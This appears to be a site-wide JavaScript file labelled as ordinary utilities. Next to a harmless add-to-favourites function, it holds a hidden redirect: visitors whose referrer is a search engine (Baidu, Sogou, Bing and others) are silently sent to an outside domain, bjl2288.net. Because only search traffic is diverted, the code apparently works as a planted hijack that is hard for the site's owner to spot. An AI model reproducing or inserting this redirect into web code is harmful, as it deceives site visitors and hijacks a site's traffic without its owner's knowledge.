/* common.js: site utilities */
function addFav(){ try { window.external.addFavorite(location.href, document.title); } catch(e) {} }
var _r = document.referrer;
if (_r && /(baidu|sogou|so|sm|bing)\.(com|cn)/i.test(_r)) { location.href = "https://www.bjl2288.net/m/"; }
